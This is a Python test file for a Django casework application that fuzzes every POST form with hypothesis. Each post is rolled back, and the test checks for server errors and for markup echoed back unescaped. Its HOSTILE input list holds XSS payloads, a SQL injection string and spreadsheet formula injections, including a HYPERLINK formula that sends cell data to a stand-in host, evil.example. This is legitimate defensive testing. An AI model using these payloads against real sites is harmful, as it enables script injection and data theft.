"""Every form, fuzzed (issue 13, item 2; security.md goal 7).

For each route of the route matrix (tests/core/test_routes.py) that takes a form by POST,
the test signs in as the first role allowed to use it, reads the form's fields from the
page, and posts values hypothesis makes of them: the page's own values and options
(valid-looking) mixed with hostile ones (NUL, very long strings, huge numbers, HTML and
script, spreadsheet formulas, odd dates). Every answer, and the page a redirect leads to:

- is never a 5xx;
- never carries an HTML payload unescaped;
- is answered at all (a page that cannot be rendered fails the test).

The page checks of tests/pages.py are off here: a form shown again echoes NUL and control
characters as typed, which a strict HTML parser refuses (reported in issue 13, left to
the field-validation work).

Each post is undone afterwards (as in the route matrix). Bounded: EXAMPLES posts per form,
derandomized under CI=true (tests/conftest.py).
"""

import datetime as dt
from typing import Any

import pytest
from django.db import transaction
from django.test import Client
from django.utils.module_loading import import_string
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import html

from tests.core.test_routes import ROUTES, may_use, url_for
from tests.personas import ROLES, World

EXAMPLES = 10
FORM_ROUTES = sorted(name for name, route in ROUTES.items() if route.post == 200)

# Markup that must never come back as markup.
MARKUP = [
    "<script>alert('fuzz')</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>fuzz</a>",
]
HOSTILE = [
    *MARKUP,
    "\x00",
    "NUL\x00inside",
    "x" * 20_000,
    "9" * 400,
    "-1e309",
    "99999999999999999999",
    "-1",
    "0",
    "1.5",
    "NaN",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "' OR 1=1 --",
    "😀 ﷽ \u202e",
    "2026-02-30",
    "31",
    "13",
    "",
    " ",
]


def form_fields(page: bytes, url: str) -> dict[str, list[str]]:
    """The fields of the page's POST forms that post to `url` (not the header's sign-out
    form): each field's name with the values the page offers (options, radios,
    checkboxes, the current value)."""
    tree = html.fromstring(page)
    fields: dict[str, list[str]] = {}
    for form in tree.forms:
        if form.method.upper() != "POST" or (form.get("action") or url) != url:
            continue
        for element in form.inputs:
            name = element.get("name")
            if not name or element.get("type") in {"submit", "button", "file"}:
                continue
            fields.setdefault(name, [])
            if element.tag == "select":
                fields[name] += [option for option in element.value_options if option]
            elif element.get("value") is not None:
                fields[name].append(element.get("value"))
            elif element.tag == "textarea" and element.text:
                fields[name].append(element.text)
    return fields


# Forms the matrix world cannot show on the route's own page: their declared fields.
FORM_CLASSES = {
    # POST only: the form is on the revision's page
    "editorial:revision_reject": "opensend.directory.editorial.forms.RejectForm",
    # Tom's final plan is issued already: nothing to issue, so the page shows no form
    "casework:plan_issue": "opensend.casework.forms.plans.PlanIssueForm",
    # Paula's only child, Tom, has a case already: nothing to request
    "contributions:request": "opensend.contributions.forms.FamilyRequestForm",
    # Tom's draft is past its comment period (his final plan is out): the pages say so
    "contributions:draft_plan": "opensend.contributions.forms.DraftCommentsForm",
    "contributions:meeting": "opensend.contributions.forms.MeetingRequestForm",
    "contributions:preferred_setting": "opensend.contributions.forms.PreferredSettingForm",
    # the matrix's token is unknown: the page says the invitation has expired
    "family:invitation": "opensend.casework.forms.family_accounts.ChoosePasswordForm",
    # Yasmin's record names no parent: nobody to decide about
    "family:parent_access": "opensend.casework.forms.family_accounts.ParentAccessForm",
    # every pupil at Hillside has a request or a plan already: nothing to request
    "schools:request_new": "opensend.schools.forms.SchoolRequestForm",
}
DATE_PARTS = ("day", "month", "year")


def declared_fields(name: str) -> dict[str, list[str]]:
    """The fields a form class declares (dates as their day, month and year inputs), with
    the choices each offers."""
    form_class = import_string(FORM_CLASSES[name])
    try:  # a form that adds its fields when made (a box per plan section...)
        declared = form_class().fields
    except TypeError:  # one that needs the view's records to be made
        declared = form_class.base_fields
    fields: dict[str, list[str]] = {}
    for field_name, field in declared.items():
        offered = [str(value) for value, _ in getattr(field, "choices", []) if value != ""]
        if hasattr(field, "fields"):  # a date: one input for each part
            fields |= {f"{field_name}-{part}": [] for part in DATE_PARTS}
        else:
            fields[field_name] = offered
    return fields


def value_for(offered: list[str]) -> st.SearchStrategy[str]:
    valid = [st.sampled_from(offered)] if offered else []
    return st.one_of(
        *valid,
        st.sampled_from(HOSTILE),
        st.text(st.characters(exclude_categories=("Cs",)), max_size=40),
        st.integers(min_value=-(10**30), max_value=10**30).map(str),
    )


def signed_in(name: str, world: World, client_for) -> tuple[Client, str]:
    """A client of the first role allowed to use the route, and the route's URL."""
    route = ROUTES[name]
    for role in ROLES:
        if may_use(route, world, role):
            return client_for(world.persona(role)), url_for(name, world.related(role), world.tom)
    raise AssertionError(f"{name}: no role may post it")


def post_undone(client: Client, url: str, data: dict[str, Any]):
    """Post, follow any redirect, and undo every change afterwards."""
    with transaction.atomic():
        response = client.post(url, data, follow=True)
        transaction.set_rollback(True)
    return response


def assert_safe(response, data: dict[str, str], name: str) -> None:
    assert response.status_code < 500, f"{name}: {response.status_code} for {data!r}"[:2000]
    if "html" not in response.get("Content-Type", ""):
        return
    body = response.content.decode()
    sent = {value for value in data.values() if value in MARKUP}
    unescaped = [payload for payload in sent if payload in body]
    assert not unescaped, f"{name}: unescaped {unescaped} in the answer"


def fuzz_form(name: str, world: World, client_for) -> None:
    client, url = signed_in(name, world, client_for)
    if name in FORM_CLASSES:
        fields = declared_fields(name)
    else:
        with transaction.atomic():
            page = client.get(url)
            transaction.set_rollback(True)
        assert page.status_code == 200, f"{name}: GET {url} gave {page.status_code}"
        fields = form_fields(page.content, url)
    assert fields, f"{name}: no form posting to {url} on the page"
    values = st.fixed_dictionaries({field: value_for(offered) for field, offered in fields.items()})

    @given(data=values)
    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        # the world is the test's, shared by the examples on purpose (each post is undone)
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    def fuzzed(data: dict[str, str]) -> None:
        assert_safe(post_undone(client, url, data), data, name)

    fuzzed()


# One world for several forms: building it is a good part of the time.
GROUPS = {
    app: [name for name in FORM_ROUTES if name.partition(":")[0] == app]
    for app in sorted({name.partition(":")[0] for name in FORM_ROUTES})
}


# A form shown again echoes what was typed, NUL and control characters included: invalid
# HTML to a strict parser but not unsafe (issue 13 report); status and escaping are
# checked here instead of the page checks.
@pytest.mark.no_page_check(reason="fuzzing: forms echo typed NUL/control characters")
@pytest.mark.parametrize("app", sorted(GROUPS))
def test_every_form_survives_fuzzed_input(app: str, world: World, client_for, today: dt.date):
    for name in GROUPS[app]:
        fuzz_form(name, world, client_for)


def test_the_fuzzed_forms_are_the_matrix_forms():
    """Every route declaring an empty POST's 200 (a form shown again with its errors)."""
    assert "casework:plan_section" in FORM_ROUTES
    assert "feedback:give" in FORM_ROUTES
    assert "core:forgotten_password" in FORM_ROUTES
    assert len(FORM_ROUTES) >= 25
